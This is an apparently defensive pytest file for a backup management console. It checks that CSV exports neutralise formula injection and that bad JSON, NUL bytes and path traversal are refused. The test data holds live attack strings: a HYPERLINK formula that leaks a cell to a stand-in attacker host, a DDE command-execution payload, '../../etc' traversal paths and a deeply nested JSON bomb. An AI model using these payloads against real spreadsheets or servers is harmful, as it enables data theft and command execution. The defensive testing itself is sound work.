"""Issue 10, input robustness: what an agent or an anonymous caller types
never becomes a formula in a spreadsheet, a 500, or a lost report."""

import csv
import io
import json
import urllib.error
import urllib.request

import pytest

from console.fleet.models import Device
from console.policies import spec as specs
from console.policies.models import Policy
from tests.console.conftest import enroll

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_audit_csv_neutralises_a_formula_typed_as_user_name(client, ui, users):
    # A failed sign-in by an anonymous caller, through the real login form.
    r = client.post("/login/", {"username": FORMULA, "password": "wrong"})
    assert r.status_code == 200
    r = ui("auditor").get("/audit/export.csv?action=auth.login_failed")
    rows = _csv_rows(r)
    assert len(rows) == 2
    cells = rows[1]
    assert cells[5] == "'" + FORMULA  # target: shown as text, not evaluated
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert json.loads(cells[9])["username"] == FORMULA  # the JSON cell is intact


@pytest.mark.parametrize(
    "hostname", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_device_csv_neutralises_agent_supplied_host_names(ui, users, small_fleet, hostname):
    device = enroll(small_fleet.token_plaintext, 1, prefix="x")[0]
    Device.objects.filter(pk=device.pk).update(hostname=hostname)
    rows = _csv_rows(ui("auditor").get("/devices/export.csv"))
    row = next(r for r in rows[1:] if r[-1] == str(device.pk))
    assert row[0] == "'" + hostname
    # numbers and ordinary text are left as they are
    plain = next(r for r in rows[1:] if r[0] == "pc-000")
    assert plain[9] == "0" and plain[-1] == str(small_fleet.devices[0].pk)


# --- item 9: bad JSON is a 400 with a reason, never a 500 ------------------------------------

DEEP = "[" * 50_000 + "]" * 50_000


def test_deeply_nested_json_to_the_unauthenticated_token_endpoint_is_a_400(live_server):
    # A real socket to a real server: before, a RecursionError answered 500.
    request = urllib.request.Request(
        f"{live_server.url}/api/v1/auth/token/",
        data=('{"username": ' + DEEP + "}").encode(),
        headers={"Content-Type": "application/json"},
    )
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(request, timeout=30)
    assert err.value.code == 400
    assert "nested deeper than" in json.loads(err.value.read())["detail"]


@pytest.mark.parametrize(
    "body",
    [
        '{"name": "Deep", "spec": ' + DEEP + "}",
        '{"name": "Deep", "spec": ' + "{" + '"a":{' * 40 + "}" * 41 + "}",
        '{"name": "NaN", "spec": {"rpo_hours": NaN}}',
        '{"name": ',
    ],
    ids=["recursion", "too-deep", "nan", "truncated"],
)
def test_bad_json_bodies_are_refused_with_a_reason(api, users, body):
    r = api("admin").post("/api/v1/policies/", body, content_type="application/json")
    assert r.status_code == 400
    assert r.json()["detail"].startswith("JSON parse error - ")
    assert not Policy.objects.exists()


def test_nul_in_a_policy_path_is_a_field_error_not_a_database_error(api, users):
    spec = specs.default_spec()
    spec["sources"]["linux"].append("/home/\x00/secret")
    spec["excludes"].append("*.tmp\x00")
    r = api("admin").post("/api/v1/policies/", {"name": "Nul", "spec": spec}, format="json")
    assert r.status_code == 400
    body = r.json()
    assert "NUL" in body["spec.sources.linux"][0] and "NUL" in body["spec.excludes"][0]
    assert not Policy.objects.exists()


# --- item 10: sources are absolute on their OS, or a known folder -----------------------------


@pytest.mark.parametrize(
    ("os_name", "entry", "message"),
    [
        ("linux", "Documents", "is not an absolute path on linux"),
        ("linux", "./Documents", "is not an absolute path on linux"),
        ("macos", "../../etc", "'..' is not allowed"),
        ("linux", "/home/alice/../bob", "'..' is not allowed"),
        ("linux", "{Documents}/../../etc", "'..' is not allowed"),
        ("windows", r"Users\alice", "is not an absolute path on windows"),
        ("windows", r"C:\Users\alice\..\bob", "'..' is not allowed"),
        ("windows", r"\Users\alice", "is not an absolute path on windows"),
        ("windows", "C:relative", "is not an absolute path on windows"),
        ("windows", "/tmp/data", "is not an absolute path on windows"),
        ("linux", "{Documents}extra", "a known folder is followed by"),
        ("linux", "/srv/a\x07b", "control character"),
    ],
)
def test_relative_and_dotdot_sources_are_refused_by_field(api, users, os_name, entry, message):
    spec = specs.default_spec()
    spec["sources"][os_name].append(entry)
    r = api("admin").post("/api/v1/policies/", {"name": "Paths", "spec": spec}, format="json")
    assert r.status_code == 400
    assert message in " ".join(r.json()[f"spec.sources.{os_name}"])
    assert not Policy.objects.exists()


@pytest.mark.parametrize(
    ("os_name", "entry"),
    [
        ("linux", "/srv/data"),
        ("linux", "~"),
        ("macos", "~/src"),
        ("linux", "{Documents}/Projects"),
        ("windows", r"C:\Data"),
        ("windows", "D:/Shared/Finance"),
        ("windows", r"\\fileserver\home\alice"),
        ("windows", r"{Documents}\Outlook Files"),
    ],
)
def test_absolute_and_known_folder_sources_are_accepted(api, users, os_name, entry):
    spec = specs.default_spec()
    spec["sources"][os_name].append(entry)
    r = api("admin").post("/api/v1/policies/", {"name": "Paths", "spec": spec}, format="json")
    assert r.status_code == 201, r.json()
    assert entry in Policy.objects.get().current_revision.spec["sources"][os_name]


def test_policy_form_refuses_a_relative_source_by_field(ui, users):
    from console.dashboard.forms import PolicyForm

    initial = PolicyForm.initial_from("Form", "", specs.default_spec())
    data = {k: v for k, v in initial.items() if v is not None and v is not False}
    data["sources_linux"] = "{Documents}\n../etc"
    r = ui("admin").post("/policies/new/", data)
    assert r.status_code == 200
    assert "&#x27;..&#x27; is not allowed in a source path" in r.content.decode()
    assert not Policy.objects.exists()
